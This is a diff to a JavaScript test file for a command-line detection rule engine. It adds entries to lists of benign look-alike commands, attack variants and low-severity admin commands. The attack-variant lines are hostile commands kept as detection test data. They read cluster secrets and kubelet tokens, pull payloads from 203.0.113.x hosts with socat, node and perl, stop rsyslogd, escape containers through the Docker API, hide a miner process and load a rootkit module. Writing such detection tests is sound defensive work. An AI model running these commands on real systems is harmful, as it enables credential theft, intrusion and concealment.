@@ -83,6 +83,8 @@ const BENIGN_LOOK_ALIKES = [
 `cc -c /tmp/selfgz1234/NVIDIA-Linux-x86_64-550.54.15/kernel/nvidia/nv.c`, `gcc -O2 -o hello hello.c`, `nc -l 127.0.0.1 9999`, `su - postgres`, `sudo -u www-data php artisan migrate`,
 `sudo mount -t nfs 10.0.0.5:/export/models /mnt/models`, `sudo mount -o loop ubuntu.iso /tmp/iso`, `dd if=/dev/sda of=/backup/sda.img bs=4M`, `lspci | grep -i nvidia`,
 `rm -rf /var/lib/apt/lists/* /var/log/* /tmp/* /var/tmp/*`,
+`sudo cp acme-root-ca.crt /usr/local/share/ca-certificates/`, `sudo wipefs -a /dev/nvme2n1`, `sudo sysctl fs.protected_regular=0`, `sudo cp registry-ca.crt /usr/local/share/ca-certificates/ && sudo update-ca-certificates`,
+`grep -ri password /etc/grafana/grafana.ini`, `kubectl cp default/web-0:/app/logs/app.log ./app.log`, `chmod 600 ~/.bash_history`,
 `trap 'rm -f /tmp/build.lock' EXIT`, `curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg`, `cat manifest.yaml | kubectl apply -f -`,
 ];
 
@@ -181,7 +183,9 @@ const ATTACK_VARIANTS = [
 `dd if=/dev/urandom of=/var/lib/etcd/member/snap/db bs=1M count=10`, `scp ops@198.51.100.7:/srv/a.bin /usr/bin/.a`, `node -e 'require("https").get("https://203.0.113.4/a", r => r.pipe(require("fs").createWriteStream("/tmp/.a")))'`,
 `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.4:80"); open(my $o, ">", "/usr/bin/agentd"); print $o <$s>'`, `printf '[Interface]\nPostUp = id\n' > /tmp/w.conf; sudo wg-quick up /tmp/w.conf`,
 `sudo chmod 755 /tmp/payload`, `cp /bin/sh ./`, `gcc -o /dev/shm/x /dev/shm/x.c`, `tar czf /var/tmp/.c/h.tgz /home`, `ncat -lvp 9001`, `proxychains4 -q curl http://10.1.1.1/`,
-`su nobody -c id`, `python3 -m http.server 80 --directory /etc`,
+`su nobody -c id`, `sudo cat /var/lib/rancher/k3s/server/cred/ipsec.psk`, `kubectl cp default/web-0:/app/.env /tmp/e`, `logger -f /root/.bash_history`,
+`socat tcp:203.0.113.8:80 create:/dev/shm/.u`, `grep -rn token /var/lib/kubelet`, `systemd-run --unit kthreadd-helper /bin/sh -c 'sleep 1'`, `sudo pkill rsyslogd`,
+`curl -X POST https://10.1.1.1:2376/containers/create -d '{"Image":"busybox","Binds":["/:/h"]}'`, `mount --bind /proc/1 /proc/$(pgrep -f miner)`, `modprobe diamorphine_v2`, `python3 -m http.server 80 --directory /etc`,
 `./karlsen-miner --mining-address karlsen:qr6m2j6zqvs9trq4jlg7xq0mkvz8g6mqsjd6cpx2t4 -s 10.0.0.7`,
 ];
 
@@ -193,8 +197,8 @@ const ADMIN_AT_LOW_SEVERITY = [
   `ufw disable`, `systemctl disable firewalld --now`, `setenforce 0`, `tcpdump -i any -w /var/tmp/all.pcap`, `tcpdump -nA port 80`, `tshark -i eth0`, `useradd -m -s /bin/bash -G sudo alice`,
   `usermod -aG wheel bob`, `sudo visudo -f /etc/sudoers.d/ops`, `sudo cat /etc/sudoers`, `shred -u old-keys.tar`,
   `echo '*.* @@logs.acme.dev:514' >> /etc/rsyslog.conf`, `systemctl stop nftables`, `ip6tables --delete INPUT -s 203.0.113.0/24 -j REJECT`, `ufw delete deny 23`,
-  `mount -o remount,hidepid=2 /proc`, `sudo cp acme-root-ca.crt /usr/local/share/ca-certificates/`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
-  `sudo vipw`, `sudo vim /etc/group`, `sudo nano /root/.ssh/authorized_keys`,
+  `mount -o remount,hidepid=2 /proc`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
+  `sudo vipw`, `sudo vim /etc/group`, `sudo nano /root/.ssh/authorized_keys`, `sudo vim /etc/pam.d/sshd`, `echo 'IPV6=no' >> /etc/default/ufw`,
 ];
 
 describe('rule engine on command lines', () => {
